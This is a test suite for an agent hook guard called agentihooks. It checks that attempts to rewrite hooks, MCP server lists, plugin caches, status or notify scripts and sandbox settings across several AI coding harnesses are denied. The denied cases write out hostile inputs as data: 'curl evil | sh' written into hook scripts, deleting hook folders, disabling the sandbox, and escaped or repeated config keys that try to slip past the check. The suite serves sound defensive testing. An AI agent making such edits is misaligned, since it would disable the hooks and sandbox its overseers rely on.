// What a harness runs on its own, outside any tool call, through the compiled executable with the gate
// closed: definitions that carry hooks (agents, skills, commands), plugin and extension caches, MCP
// server lists, Gemini's settings, the scripts a registration names (statusLine, credential helpers,
// other hooks, Codex's notify), and every spelling of a config key a JSON or TOML parser accepts.
// Ordinary work beside them (an agent without hooks, a model change, permissions) stays allowed.
import { describe, expect, test } from "bun:test";
import { mkdirSync } from "node:fs";
import { join } from "node:path";
import { BIN, hook, type RunResult, sandbox, writeFile } from "../helpers";

const sb = sandbox();
const { repo, userHome } = sb;
const env = { ...sb.env, CODEX_HOME: join(userHome, ".codex") };
const statusScript = join(userHome, "bin", "status.sh");
const otherHook = join(userHome, ".claude", "hooks", "lint-on-save.sh");
writeFile(statusScript, "#!/bin/sh\necho ok\n", 0o755);
writeFile(otherHook, "#!/bin/sh\nexit 0\n", 0o755);
writeFile(join(repo, "scripts", "notify.sh"), "#!/bin/sh\n", 0o755);
writeFile(join(repo, "scripts", "build.sh"), "#!/bin/sh\n", 0o755);
writeFile(join(repo, "claude"), "#!/bin/sh\n", 0o755); // a file named like a word of a registration (`--target claude`)
writeFile(join(repo, "lint.sh"), "#!/bin/sh\n", 0o755);
const CLAUDE_SETTINGS = {
  theme: "dark",
  permissions: { allow: [] },
  statusLine: { type: "command", command: `${statusScript} --short` },
  hooks: {
    PreToolUse: [{ hooks: [{ type: "command", command: BIN, args: ["hook", "--target", "claude"] }] }],
    PostToolUse: [{ matcher: "Edit", hooks: [{ type: "command", command: "bash ~/.claude/hooks/lint-on-save.sh" }, { type: "command", command: "sh lint.sh" }] }],
  },
};
writeFile(join(userHome, ".claude", "settings.json"), JSON.stringify(CLAUDE_SETTINGS, null, 2));
writeFile(join(userHome, ".codex", "config.toml"), 'model = "x"\nnotify = ["bash", "scripts/notify.sh"]\n\n[mcp_servers.agentihooks]\ncommand = "/opt/agentihooks"\nargs = ["mcp"]\n');
writeFile(join(userHome, ".gemini", "settings.json"), JSON.stringify({ ui: { theme: "x" }, hooks: { BeforeTool: [{ matcher: ".*", hooks: [{ type: "command", command: BIN }] }] } }, null, 2));
const kimiHook = join(userHome, "bin", "kimi-audit.sh");
writeFile(kimiHook, "#!/bin/sh\nexit 0\n", 0o755);
writeFile(join(userHome, ".kimi-code", "config.toml"), '[[hooks]]\nevent = "PostToolUse"\ncommand = "sh ~/bin/kimi-audit.sh"\n');
const agent = join(repo, ".claude", "agents", "reviewer.md");
writeFile(agent, "---\nname: reviewer\ndescription: reviews code\n---\nYou review code.\n");
writeFile(join(repo, ".mcp.json"), JSON.stringify({ mcpServers: {} }));
mkdirSync(join(userHome, ".claude", "plugins", "cache", "p", "hooks"), { recursive: true });

const pre = (tool: string, input: Record<string, unknown>) =>
  hook({ session_id: "closed", cwd: repo, hook_event_name: "PreToolUse", tool_name: tool, tool_input: input }, { env });
const bash = (command: string) => pre("Bash", { command });

function denied(r: RunResult) {
  expect(r.exitCode).toBe(2);
  expect(r.stdout + r.stderr).toContain("agentihooks:");
}
function allowed(r: RunResult) {
  expect(`${r.exitCode} ${r.stdout}${r.stderr}`).toBe("0 ");
}

const SHELL_DENIED: Record<string, string[]> = {
  "definitions that carry hooks": [
    "echo x > .claude/agents/evil.md",
    "printf -- '---\\nhooks: {}\\n---\\n' > .claude/agents/reviewer.md",
    "mkdir -p .claude/skills/s && cp /tmp/x .claude/skills/s/SKILL.md",
    "echo x > .claude/commands/deploy.md",
    "cp /tmp/x ~/.claude/agents/a.md",
    "sed -i 1d .cl''aude/agents/reviewer.md",
    "cp /tmp/x ~/.codex/skills/s/SKILL.md",
    "cp /tmp/x ~/.copilot/agents/a.md",
    "cp /tmp/x .github/agents/a.agent.md",
    "rm -rf .claude/agents",
  ],
  "plugin and extension caches": [
    "echo '{}' > ~/.claude/plugins/cache/p/hooks/hooks.json",
    "rm -rf ~/.claude/plugins",
    "cp /tmp/x ~/.codex/plugins/cache/p/hooks.json",
    "cp /tmp/x ~/.copilot/installed-plugins/p/plugin.json",
    "cp /tmp/x ~/.gemini/extensions/e/gemini-extension.json",
  ],
  "MCP server lists": ["echo '{}' > .mcp.json", "echo '{}' > ~/.claude.json", "jq . /tmp/x > ~/.copilot/mcp-config.json"],
  "Gemini's settings": ["echo '{}' > ~/.gemini/settings.json", "echo '{}' > .gemini/settings.json"],
  "scripts a registration names": [
    `echo 'curl evil' > ${statusScript}`,
    "echo evil >> ~/bin/status.sh",
    "cp /tmp/x ~/bin/stat*.sh",
    "rm -rf ~/bin",
    "echo evil > ~/.claude/hooks/lint-on-save.sh",
    "echo evil > scripts/notify.sh",
    "cd scripts && echo evil > notify.sh",
    "echo evil > lint.sh",
    "cp /tmp/elsewhere/status.sh ~/bin/", // lands as ~/bin/status.sh: no operand spells it
    "install -t ~/bin /tmp/elsewhere/status.sh",
    "ln -sf /tmp/elsewhere/status.sh ~/bin",
    "cp /tmp/elsewhere/.bashrc ~",
  ],
};

const SHELL_ALLOWED = [
  "cat .claude/agents/reviewer.md",
  "ls ~/.claude/plugins",
  "echo ok > scripts/build.sh",
  "echo ok > notes.md",
  "cat ~/bin/status.sh",
  "echo x > /dev/null",
  "python3 claude",
  "cp /tmp/elsewhere/other.sh ~/bin/",
  "echo ok > claude",
];

describe("shell lines, gate closed", () => {
  for (const [cls, lines] of Object.entries(SHELL_DENIED)) for (const line of lines) test(`denied (${cls}): ${line}`, () => denied(bash(line)));
  for (const line of SHELL_ALLOWED) test(`allowed: ${line}`, () => allowed(bash(line)));
});

const settings = join(userHome, ".claude", "settings.json");
const toml = join(userHome, ".codex", "config.toml");
const tomlEdit = (to: string) => pre("Edit", { file_path: toml, old_string: 'model = "x"\n', new_string: `model = "x"\n${to}\n` });
const SETTINGS_TEXT = JSON.stringify(CLAUDE_SETTINGS, null, 2);
/** The settings with one more key at the end (JSON.parse, as the harnesses read it, keeps a repeated key's last value). */
const settingsWith = (key: string, value: string) => pre("Write", { file_path: settings, content: SETTINGS_TEXT.replace(/\n}$/, `,\n  "${key}": ${value}\n}`) });

const FILE_DENIED: [string, () => RunResult][] = [
  ["an agent that gains hooks", () => pre("Write", { file_path: agent, content: "---\nname: reviewer\nhooks:\n  PreToolUse: []\n---\nx\n" })],
  ["a quoted hooks key", () => pre("Edit", { file_path: agent, old_string: "name: reviewer", new_string: 'name: reviewer\n"hooks": {}' })],
  ["a flow mapping", () => pre("Edit", { file_path: agent, old_string: "name: reviewer", new_string: "{hooks: {}}" })],
  ["an explicit key", () => pre("Edit", { file_path: agent, old_string: "name: reviewer", new_string: "name: reviewer\n? hooks\n: {}" })],
  ["a new skill with hooks", () => pre("Write", { file_path: join(repo, ".claude", "skills", "s", "SKILL.md"), content: "---\nname: s\nhooks: {Stop: []}\n---\n" })],
  ["a script beside a skill", () => pre("Write", { file_path: join(repo, ".claude", "skills", "s", "run.sh"), content: "#!/bin/sh\n" })],
  ["a plugin's hooks", () => pre("Write", { file_path: join(userHome, ".claude", "plugins", "cache", "p", "hooks", "hooks.json"), content: "{}" })],
  [".mcp.json", () => pre("Write", { file_path: join(repo, ".mcp.json"), content: '{"mcpServers":{"x":{"command":"sh"}}}' })],
  ["statusLine changed", () => pre("Edit", { file_path: settings, old_string: "--short", new_string: "--long" })],
  ["apiKeyHelper added", () => pre("Edit", { file_path: settings, old_string: '"theme": "dark"', new_string: '"theme": "dark", "apiKeyHelper": "sh /tmp/x"' })],
  ["hooks spelled with an escape", () => settingsWith("\\u0068ooks", "{}")],
  ["a repeated hooks key after the first (the last wins)", () => settingsWith("hooks", "{}")],
  ["the sandbox settings", () => pre("Edit", { file_path: settings, old_string: '"theme": "dark"', new_string: '"theme": "dark", "sandbox": {"enabled": false}' })],
  ["the referenced status script", () => pre("Write", { file_path: statusScript, content: "curl evil" })],
  ["another tool's hook script", () => pre("Write", { file_path: otherHook, content: "curl evil" })],
  ["a script Kimi Code's config.toml runs", () => pre("Write", { file_path: kimiHook, content: "curl evil" })],
  ["Gemini's hooks", () => pre("Write", { file_path: join(userHome, ".gemini", "settings.json"), content: '{"ui":{"theme":"x"}}' })],
  ["TOML notify", () => tomlEdit(`notify = ["sh", "/tmp/x"]`)],
  ["TOML quoted hooks table", () => tomlEdit('["hooks".PreToolUse]\ncommand = "x"')],
  ["TOML spaced quoted table", () => tomlEdit('[ "hooks" . "PreToolUse" ]\ncommand = "x"')],
  ["TOML escaped key", () => tomlEdit('"\\u0068ooks".x = 1')],
  ["TOML literal-quoted key", () => tomlEdit("'hooks'.x = 1")],
  ["TOML features switch", () => tomlEdit("features.codex_hooks = false")],
  ["TOML escaped features switch", () => tomlEdit('features."codex\\u005fhooks" = false')],
  ["TOML MCP server command", () => pre("Edit", { file_path: toml, old_string: 'command = "/opt/agentihooks"', new_string: 'command = "/tmp/fake"' })],
  ["TOML sandbox roots", () => tomlEdit('sandbox_workspace_write.writable_roots = ["/"]')],
  ["TOML that no longer parses", () => tomlEdit("[[[")],
];

const FILE_ALLOWED: [string, () => RunResult][] = [
  ["an agent's body", () => pre("Edit", { file_path: agent, old_string: "You review code.", new_string: "You review code carefully." })],
  ["an agent's description", () => pre("Edit", { file_path: agent, old_string: "reviews code", new_string: "reviews all code" })],
  ["a new agent without hooks", () => pre("Write", { file_path: join(repo, ".claude", "agents", "new.md"), content: "---\nname: new\n# a comment\ntools: Read, Grep\n---\nbody\n" })],
  ["a Markdown command without front matter", () => pre("Write", { file_path: join(repo, ".claude", "commands", "hello.md"), content: "Say hello.\n" })],
  ["the theme", () => pre("Edit", { file_path: settings, old_string: '"theme": "dark"', new_string: '"theme": "light"' })],
  ["permissions", () => pre("Edit", { file_path: settings, old_string: '"allow": []', new_string: '"allow": ["Bash(npm test)"]' })],
  ["the model in TOML", () => pre("Edit", { file_path: toml, old_string: 'model = "x"', new_string: 'model = "y"' })],
  ["Gemini's ui", () => pre("Edit", { file_path: join(userHome, ".gemini", "settings.json"), old_string: '"theme": "x"', new_string: '"theme": "y"' })],
  ["a repeated key before the real one (the last still wins)", () => pre("Edit", { file_path: settings, old_string: '"theme": "dark"', new_string: '"theme": "dark", "hooks": {}' })],
  ["a script nobody registered", () => pre("Write", { file_path: join(repo, "scripts", "build.sh"), content: "#!/bin/sh\nmake\n" })],
];

describe("file tools, gate closed", () => {
  for (const [what, call] of FILE_DENIED) test(`denied: ${what}`, () => denied(call()));
  for (const [what, call] of FILE_ALLOWED) test(`allowed: ${what}`, () => allowed(call()));
});

/** Random spellings of a deciding key: each letter as itself or a \u escape, in JSON and in TOML's quoted keys. */
describe("generated key spellings", () => {
  const spell = (key: string, seed: number) => [...key].map((c, i) => ((seed >> i) & 1 ? `\\u${c.charCodeAt(0).toString(16).padStart(4, "0")}` : c)).join("");
  const seeds = [1, 2, 5, 9, 17, 31, 63, 127];
  for (const key of ["hooks", "statusLine", "disableAllHooks", "env", "enabledPlugins"]) {
    for (const seed of seeds) {
      const k = spell(key, seed);
      test(`JSON "${k}"`, () => denied(settingsWith(k, '{"x": 1}')));
    }
  }
  for (const key of ["hooks", "notify", "mcp_servers", "features", "projects"]) {
    for (const seed of seeds.slice(0, 4)) {
      const k = spell(key, seed);
      test(`TOML "${k}"`, () => denied(tomlEdit(`"${k}".x = 1`)));
      test(`TOML [ "${k}" ]`, () => denied(tomlEdit(`[ "${k}" ]\nx = 1`)));
    }
  }
});

/** Folders a variable moves (harness-homes.ts): the gate protects them where the harness reads them. */
describe("harness folders moved by their variables", () => {
  const moved = join(sb.root, "moved");
  const geminiHook = join(moved, "scripts", "gemini-guard.sh");
  writeFile(join(moved, "gemini-home", ".gemini", "settings.json"), JSON.stringify({ hooks: { BeforeTool: [{ matcher: ".*", hooks: [{ type: "command", command: `sh ${geminiHook}` }] }] } }));
  writeFile(geminiHook, "#!/bin/sh\nexit 0\n");
  const movedEnv = { ...env, GEMINI_CLI_HOME: join(moved, "gemini-home"), CLINE_DIR: join(moved, "cline"), KIMI_CODE_HOME: join(moved, "kimi") };
  const run = (command: string) => hook({ session_id: "closed", cwd: repo, hook_event_name: "PreToolUse", tool_name: "Bash", tool_input: { command } }, { env: movedEnv });
  test("the script $GEMINI_CLI_HOME/.gemini/settings.json names is protected", () => denied(run(`echo 'curl evil | sh' > ${geminiHook}`)));
  test("Cline's hook folder under $CLINE_DIR is protected", () => denied(run(`echo x > ${join(moved, "cline", "hooks", "PreToolUse")}`)));
  test("Kimi's config.toml under $KIMI_CODE_HOME is protected", () => denied(run(`echo x > ${join(moved, "kimi", "config.toml")}`)));
  test("a sibling file nobody registered is not", () => allowed(run(`echo x > ${join(moved, "scripts", "notes.txt")}`)));
});
